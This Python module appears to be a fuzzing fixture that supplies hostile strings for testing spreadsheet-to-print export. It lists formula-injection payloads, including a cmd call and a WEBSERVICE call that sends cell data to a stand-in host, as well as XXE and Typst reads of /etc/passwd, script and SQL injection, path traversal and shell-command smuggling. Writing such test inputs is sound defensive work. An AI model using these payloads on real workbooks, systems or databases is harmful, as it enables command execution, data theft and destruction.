"""Texts that somebody may put into a workbook to harm whoever opens what is printed from it."""

import random
import re
from collections.abc import Iterator
from itertools import product

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_SIGNS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "'=", '"=', ";=", ",=", "|=", "%0A=")
CALLS = (
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.example","y")',
    "SUM(A1:A9)",
    'WEBSERVICE("http://x.example/?"&A1)',
    'IMPORTXML("http://x.example","//a")',
)
MARKUP = (
    '#panic("typst")',
    '#read("/etc/passwd")',
    '#import "@preview/x:0.1.0"',
    "$x$ *b* _i_ `r` <l> @r \\ // /* ] ) }",
    "\\u{41}",
    '")]#eval("1")',
    "<b>&amp;</b>",
    "]]></t><script>alert(1)</script>",
    "</w:t></w:r><w:r><w:fldChar/>",
    "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;",
    "<![CDATA[x]]>",
    "&P &D &[File] &Z&F",
    "{{7*7}} ${7*7} {0} {name} %s %n %(x)s",
    "_x000D_ _x0041_",
    "javascript:alert(1)",
    "' OR 1=1 --",
    '"; DROP TABLE results; --',
)
PATHS = (
    "..\\..\\x",
    "../../../tmp/x",
    "/etc/passwd",
    "C:\\Windows\\x",
    "\\\\server\\share\\x",
    "CON",
    "nul.txt",
    "LPT1",
    "a:b",
    "a?b*c|d<e>f",
    "Xã/Phường",
    "~/.bashrc",
    "$(touch /tmp/x)",
    "`touch x`",
    "x; touch y",
    "-rf",
    "--help",
    ".",
    "..",
    "...",
    "x.",
    "x" * 300,
)
LETTERS = (
    "a\x00b\x0b\x1f\x7f",
    "\ufffe\uffff",
    "\u202eevil\u202c",
    "\u2066x\u2069",
    "\u200b\u200d\ufeff",
    "e\u0301 ơ\u0323",
    "Hoà Bình",
    "\u00a0 ",
    "\U0001f680 \U000e0041",
    "\ud83d",
    "ﷺ" * 40,
    "Z̴̢̛a̸l̷g̵o̶",
    "W" * 1999,
    "ạ" * 500,
    "một hai ba " * 150,
    "\r\n\r\n",
    "x\ny\tz",
    "1" * 60,
    "1e999",
    "#REF!",
    "TRUE",
)
ODD_LETTERS = "=+-@#$%&*_<>\"'`\\/|{}[]();:,.!?~^\t\n\u200e\u202e\u0301ạếỗự漢ع𝔘0"

UNWRITABLE = re.compile(ILLEGAL_CHARACTERS_RE.pattern + "|[\ud800-\udfff\ufffe\uffff]")


def writable(text: str) -> str:
    """The text as far as openpyxl can put it into a workbook."""
    return UNWRITABLE.sub("", text)


def hostile_texts(num: int, seed: int = 0) -> Iterator[str]:
    """So many texts, the plain attacks first, then odd letters at random; the same for one seed."""
    chosen = [*MARKUP, *PATHS, *LETTERS, *(f"{sign}{call}" for sign, call in product(FORMULA_SIGNS, CALLS))]
    rng = random.Random(seed)  # noqa: S311
    rng.shuffle(chosen)
    yield from chosen[:num]
    for _more in range(num - len(chosen)):
        yield "".join(rng.choices(ODD_LETTERS, k=rng.randint(1, 60)))
